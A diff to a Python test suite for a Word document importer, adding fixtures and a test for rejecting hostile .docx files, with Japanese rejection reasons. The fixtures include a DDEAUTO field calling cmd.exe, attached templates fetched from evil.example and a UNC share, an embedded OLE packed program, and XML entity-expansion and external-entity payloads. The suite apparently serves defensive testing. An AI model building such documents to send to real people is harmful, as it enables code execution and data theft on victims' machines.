@@ -67,6 +67,7 @@ def twice() -> bytes:
     return stream.getvalue()
 
 
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 DDE = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{CODE.format(" DDEAUTO c:/cmd.exe ")}</w:p>'
 HOSTILE = {
     "zero bytes": (b"", "空のファイル"),
@@ -86,8 +87,12 @@ HOSTILE = {
     "docm": (typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "マクロ"),
     "activeX": (word(parts={"word/activeX/activeX1.xml": "<x/>"}), "埋め込みの部品"),
     "OLE": (word(parts={"word/embeddings/oleObject1.bin": b"x"}), "埋め込みの部品"),
+    "packed program": (
+        word(parts={"word/embeddings/oleObject1.bin": OLE + "\1Ole10Native".encode("utf-16-le")}), "埋め込みの部品",
+    ),
     "template": (linked("attachedTemplate", "https://evil.example/a.dotm"), "ひな形"),
-    "template on a drive": (linked("attachedTemplate", "file:///C:/a.dotm"), "ひな形"),
+    "template on a share": (linked("attachedTemplate", r"file:///\\evil\a.dotm"), "ひな形"),
+    "template of the machine": (linked("attachedTemplate", "file:///etc/a.dotm"), "ひな形"),
     "remote picture": (linked("image", "https://evil.example/pixel.png"), "外部のファイル"),
     "remote object": (linked("oleObject", "https://evil.example/a"), "外部"),
     "remote frame": (linked("frame", "https://evil.example/a"), "外部"),
@@ -97,7 +102,7 @@ HOSTILE = {
                 "word/_rels/settings.xml.rels": relations(("x", "attached&#84;emplate", "http://e.example/"))
             }
         ),
-        "外部のファイル",
+        "外部のひな形",
     ),
     "laughs": (word(replaced=main_part("<w:p><w:r><w:t>&c;</w:t></w:r></w:p>", LAUGHS)), "宣言"),
     "entity": (word(replaced=main_part("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", FETCHES)), "宣言"),
@@ -138,6 +143,19 @@ def test_the_reason_is_in_the_readers_language_and_names_the_file() -> None:
         read(HOSTILE["old .doc"][0], "仕様書.docx")
     with words.use_locale("en"), pytest.raises(Invalid, match="old Word format"):
         read(HOSTILE["old .doc"][0])
+
+
+def test_templates_on_the_authors_disk_and_data_of_other_programs_are_left_aside() -> None:
+    template = r"file:///C:\Users\suita\Templates\shiyo.dotm"
+    rows = relations(("x", "attachedTemplate", template))
+    data = word(
+        p("本文"),
+        parts={"word/_rels/settings.xml.rels": rows, "word/embeddings/oleObject1.bin": OLE + b"Equation.3"},
+    )
+    imported = read(data)
+    assert "本文" in str(imported.document.blocks)
+    (told,) = imported.report
+    assert template in told.what
 
 
 def test_links_templates_of_word_and_odd_numbers_do_no_harm() -> None:
